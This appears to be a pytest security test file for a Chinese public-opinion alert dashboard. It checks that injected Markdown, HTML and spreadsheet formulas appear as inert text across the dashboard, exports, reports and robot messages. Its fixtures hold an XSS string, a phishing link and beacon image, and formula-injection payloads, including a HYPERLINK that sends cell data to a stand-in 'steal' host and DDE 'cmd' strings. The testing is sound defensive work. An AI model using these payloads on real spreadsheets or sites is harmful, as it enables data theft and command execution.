"""Text is text: Markdown, HTML and spreadsheet formulas in crawled titles, users' replies and notes are shown as
written — never as a live link, an image the browser fetches, a script or a formula — on the dashboard (AppTest:
every rendered body and label), in the CSV export, the 日报 docx/xlsx (read back) and the robots' Markdown messages."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from tests.security.test_pii_outputs import DEPT, NOW, PASSWORD, login, read_docx, visible, write_config

LINK = "[点此查看官方通知](http://x.invalid/phish) ![b](http://x.invalid/beacon.png)"
HTML = "<img src=http://x.invalid/p.png onerror=alert(1)><script>alert(2)</script>"
DIRECTIVE = ":red[紧急] **加粗** # 标题 $x^2$"
FORMULAS = ['=HYPERLINK("http://x.invalid/steal?d="&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]

# Unescaped Markdown/HTML that would be live: a link or image, a raw tag, a Streamlit colour directive, and text
# shaped like a URL that Markdown's autolinking would turn into a link.
LIVE = [re.compile(p) for p in (r"(?<!\\)\]\(", r"(?<!\\)<img", r"(?<!\\)<script", r"(?<!\\):red\[", r"(?<!\\)!\[",
                                r"https?://", r"www\.")]


def live_markup(text: str) -> list[str]:
    return [p.pattern for p in LIVE if p.search(text)]


def rendered(at: Any) -> list[tuple[str, str]]:
    """(where, body) for everything Streamlit renders as Markdown: bodies and every kind of label."""
    out: list[tuple[str, str]] = []
    for kind in ("markdown", "caption", "title", "header", "subheader", "error", "warning", "info", "success"):
        out += [(kind, str(e.value)) for e in getattr(at, kind)]
    out += [("metric", str(m.label)) for m in at.metric]
    out += [("expander", str(e.label)) for e in at.expander]
    out += [("tab", str(t.label)) for t in at.tabs]
    for widgets in (at.selectbox, at.text_input, at.text_area, at.radio, at.button, at.multiselect):
        out += [("label", str(w.label)) for w in widgets]
    out += [("radio option", str(o)) for r in at.radio for o in r.options]
    return out


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A store whose alerts, posts, replies and notes carry Markdown, HTML and formulas."""
    from yuqing.app import App
    from yuqing.model import Document, DocumentKind, Event
    from yuqing.users import create_user

    tmp = tmp_path_factory.mktemp("injection")
    with pytest.MonkeyPatch.context() as mp:
        home = tmp / "home"
        home.mkdir()
        config = write_config(home, "http://127.0.0.1:9", 9)  # notifications are rendered, not sent, here
        mp.setenv("YUQING_HOME", str(home))
        mp.setenv("YUQING_CONFIG", str(config))
        mp.setenv("YUQING_NOW", NOW.isoformat())
        app = App.load(config, home)
        wf, docs = app.store.workflow, app.store.documents
        for user, role, dept in (("officer1", "officer", None), ("dept1", "department", DEPT)):
            create_user(wf, user, role, PASSWORD, department=dept, display_name=user)
        officer, dept, svc = wf.get_user("officer1"), wf.get_user("dept1"), app.alerts
        t = NOW - timedelta(hours=3)
        # A crawled event whose posts and title carry the payloads (expander labels, post bodies, replies).
        posts = [Document(url=f"http://board.invalid/{i}", source="a_city_board", title=f"{LINK}{HTML}",
                          content=f"{DIRECTIVE} {LINK} {HTML}", kind=DocumentKind.POST, published_at=t, region="A3区")
                 for i in range(3)]
        docs.upsert_documents(posts, t)
        docs.link_documents({d.id: ("ev-hostile", None) for d in posts})
        docs.save_events([Event(id="ev-hostile", title=f"{LINK}{DIRECTIVE}", keywords=["[x](http://x.invalid)"],
                                region="A3区", topic="城乡建设", first_seen=t, last_seen=t, doc_count=3,
                                source_count=1, negative=3, heat=40.0, heat_parts={"volume": 20.0})], t)
        ids = {}
        alert = svc.raise_manual(officer, f"{LINK}{HTML}", f"{DIRECTIVE}{LINK}", level=2, department=DEPT,
                                 event_id="ev-hostile", now=t)
        svc.act(dept, alert.id, "return", text=f"退单{LINK}{HTML}", now=t + timedelta(minutes=5))
        svc.act(officer, alert.id, "dispatch", department=DEPT, note=f"备注{LINK}", now=t + timedelta(minutes=10))
        svc.act(dept, alert.id, "respond", text=f"回应{LINK}{HTML}{DIRECTIVE}", now=t + timedelta(minutes=20))
        svc.act(officer, alert.id, "evaluate", rating="不满意", note=f"评价{LINK}{HTML}", now=t + timedelta(minutes=30))
        ids["markup"] = alert.id
        for i, formula in enumerate(FORMULAS):
            a = svc.raise_manual(officer, formula, f"原因{formula}", level=3, department=DEPT,
                                 now=t + timedelta(seconds=i + 1))
            svc.act(dept, a.id, "respond", text=formula, now=t + timedelta(minutes=40))
            ids[f"formula{i}"] = a.id
        # Control characters from a crawled page: no writer may fail on them.
        a = svc.raise_manual(officer, "停水\x0b通知\x1f（含控制符）", "原因\x00", level=3, department=DEPT,
                             now=t + timedelta(seconds=30))
        ids["control"] = a.id
        yield app, ids, tmp
        app.close()


def test_dashboard_shows_markup_as_text(hostile):
    app, ids, _ = hostile
    pages = []
    at = login("officer1")
    at.multiselect(key="wb_status").set_value([]).run()
    at.selectbox(key="wb_pick").set_value(ids["markup"]).run()
    assert not at.exception, [e.message for e in at.exception]
    pages.append(("workbench", at))
    at2 = login("dept1")
    at2.button_group(key="dd_view").set_value("全部").run()
    at2.selectbox(key="dd_pick").set_value(ids["markup"]).run()
    assert not at2.exception, [e.message for e in at2.exception]
    pages.append(("department desk", at2))
    for page, at in pages:
        bodies = rendered(at)
        live = [(where, body[:120], live_markup(body)) for where, body in bodies if live_markup(body)]
        assert live == [], page
        shown = "\n".join(visible(body) for _, body in bodies)
        # Shown, as written: heading, reason, post bodies and expander labels, return reason, response, notes.
        assert shown.count(LINK) >= 5, page
        assert HTML in shown and DIRECTIVE in shown, page
        assert any(where == "expander" and LINK in visible(body) for where, body in bodies), page
        table = "\n".join(frame.value.to_csv() for frame in at.dataframe)
        assert f"评价{LINK}" in table or page == "department desk"  # the timeline's notes, as plain cells


def test_csv_export_writes_formulas_as_text(hostile):
    from yuqing.dashboard.common import csv_bytes
    from yuqing.dashboard.services import queries

    app, ids, _ = hostile
    officer = app.store.workflow.get_user("officer1")
    _, views = queries.list_alerts(app, officer, status=None, limit=100)
    data = csv_bytes([queries.alert_row(v, NOW) for v in views]).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data)))
    titles = {r["编号"]: r["标题"] for r in rows}
    for i, formula in enumerate(FORMULAS):
        assert titles[ids[f"formula{i}"]] == "'" + formula
    for r in rows:
        for value in r.values():
            assert not value.lstrip().startswith(("=", "+", "-", "@")), value


@pytest.mark.parametrize("value, quoted", [
    ("=1+1", True), ("+1", True), ("-1", True), ("@A1", True), ("  =1+1", True), ("\t=1+1", True), ("\r=1", True),
    ("\n\n=1", True), ("\tabc", True), ("标题=1", False), ("A-1", False), ("", False), ("正常标题", False)])
def test_safe_cell_and_typed_xlsx_cells(tmp_path, value, quoted):
    from openpyxl import Workbook, load_workbook

    from yuqing.dashboard.textfmt import safe_cell, xlsx_value

    assert safe_cell(value) == ("'" + value if quoted else value)
    wb = Workbook()
    xlsx_value(wb.active["A1"], value)
    wb.save(tmp_path / "t.xlsx")
    cell = load_workbook(tmp_path / "t.xlsx").active["A1"]
    if value:
        assert cell.data_type == "s" and cell.value == value.replace("\r", "") or cell.value == value
    assert not re.search(r"<f[ >]", zipfile.ZipFile(tmp_path / "t.xlsx").read("xl/worksheets/sheet1.xml").decode())


def test_reports_keep_formulas_and_markup_as_text(hostile):
    from openpyxl import load_workbook

    from yuqing.dashboard.report import build_brief, write_report

    app, ids, tmp = hostile
    brief = build_brief(app, "daily", NOW.date(), NOW)
    xlsx = write_report(brief, Path(tmp) / "brief.xlsx")
    wb = load_workbook(str(xlsx))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "停水通知（含控制符）" in [c.value for c in cells]
    for formula in FORMULAS:
        hits = [c for c in cells if c.value == formula]
        assert len(hits) >= 2, formula  # the alert's title and the response, each exactly as written
        assert all(c.data_type == "s" and c.quotePrefix for c in hits)
    with zipfile.ZipFile(xlsx) as z:
        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert not re.search(r"<f[ >]", sheets) and "<hyperlink" not in sheets  # no formula, no live link element

    docx = write_report(brief, Path(tmp) / "brief.docx")
    text = read_docx(docx)
    assert all(f in text for f in FORMULAS) and LINK in text and "停水通知（含控制符）" in text
    with zipfile.ZipFile(docx) as z:
        body = z.read("word/document.xml").decode()
    assert "w:hyperlink" not in body and "w:fldSimple" not in body and "w:instrText" not in body


def test_robot_messages_quote_markup_without_making_it_live(hostile):
    from yuqing.alerts.notify.email import EmailChannel
    from yuqing.alerts.notify.webhook import build_body

    app, ids, _ = hostile
    payloads = [d["payload"] for d in app.store.workflow.list_deliveries(ids["markup"])]
    assert {"new", "returned", "responded"} <= {p["kind"] for p in payloads}
    for fmt in ("wecom", "dingtalk"):
        body = build_body(payloads, fmt)["markdown"]
        text = body.get("content") or body.get("text")
        assert not live_markup(text) and "](" not in text and "<img" not in text, fmt
        assert "点此查看官方通知" in text
    generic = json.dumps(build_body(payloads, "generic"), ensure_ascii=False)
    assert LINK in generic  # JSON carries the text as data, for the receiver to treat as text
    msg = EmailChannel({}).build_message("office@example.gov.cn", payloads)
    assert LINK in msg.get_content() and "\n" not in str(msg["Subject"])
